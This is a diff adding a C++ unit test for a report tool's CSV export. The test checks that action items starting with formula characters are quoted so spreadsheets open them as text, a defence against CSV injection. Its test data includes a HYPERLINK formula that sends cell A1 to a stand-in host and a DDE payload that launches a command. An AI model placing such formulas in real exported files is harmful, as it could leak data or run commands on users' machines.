@@ -4,6 +4,7 @@
 #include <gtest/gtest.h>
 
 #include <algorithm>
+#include <map>
 #include <nlohmann/json.hpp>
 #include <sstream>
 
@@ -159,6 +160,34 @@ TEST_F(ReportCliTest, ActionsAsCsvOneRowPerItemWithTheWordsKept) {
     EXPECT_EQ(row[col("overdue")], "yes");
   }
   EXPECT_TRUE(found);
+}
+
+// An action typed (or synced from another office) as a formula opens in a
+// spreadsheet as text: the cell gets a leading quote (OWASP, CSV injection).
+TEST_F(ReportCliTest, CsvCellsThatStartAsAFormulaAreOpenedAsText) {
+  const std::vector<std::pair<std::string, std::string>> typed = {
+      {"ai-2022-08-26-1.1", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ចុចទីនេះ\")"},
+      {"ai-2022-08-26-1.2", "+66 2 123 4567 โทรหาผู้ประสานงาน"},
+      {"ai-2022-08-26-1.3", "-ផ្ទៀងផ្ទាត់បញ្ជី"},
+      {"ai-2022-08-26-1.4", "@SUM(1+1)*cmd|' /C calc'!A0"},
+      {"ai-2023-01-16-9.1", "-15"},
+  };
+  for (const auto& [id, action] : typed) {
+    ASSERT_EQ(Accord(node, {"put", "action_item", "--id", id, "action=" + action}).code, 0) << id;
+  }
+  CommandResult r = Accord(node, {"report", "actions", "--today", "2023-07-01", "--csv"});
+  ASSERT_EQ(r.code, 0);
+  auto rows = ParseCsv(r.out);
+  ASSERT_GT(rows.size(), 1u);
+  const auto& head = rows[0];
+  size_t action = static_cast<size_t>(std::find(head.begin(), head.end(), "action") - head.begin());
+  ASSERT_LT(action, head.size());
+  std::map<std::string, std::string> shown;
+  for (const auto& row : rows) shown[row[0]] = row[action];
+  for (size_t i = 0; i < 4; ++i) {
+    EXPECT_EQ(shown[typed[i].first], "'" + typed[i].second) << typed[i].first;
+  }
+  EXPECT_EQ(shown["ai-2023-01-16-9.1"], "-15") << "a plain number stays a number";
 }
 
 TEST_F(ReportCliTest, PlanAsTextJsonAndCsvShowsEachPartysAssessment) {
